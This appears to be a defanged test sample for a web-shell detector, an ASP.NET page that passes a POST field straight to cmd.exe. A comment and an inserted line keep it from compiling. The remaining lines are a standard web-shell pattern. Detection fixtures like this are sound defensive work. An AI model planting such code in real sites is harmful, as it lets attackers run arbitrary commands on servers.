<%@ Page Language="C#" %>
<%-- DEFANGED vigil test sample (see README): the block below does not compile. --%>
<% DEFANGED SAMPLE does not compile %>
<%
    var psi = new System.Diagnostics.ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + Request.Form["c"];
    System.Diagnostics.Process.Start(psi);
%>
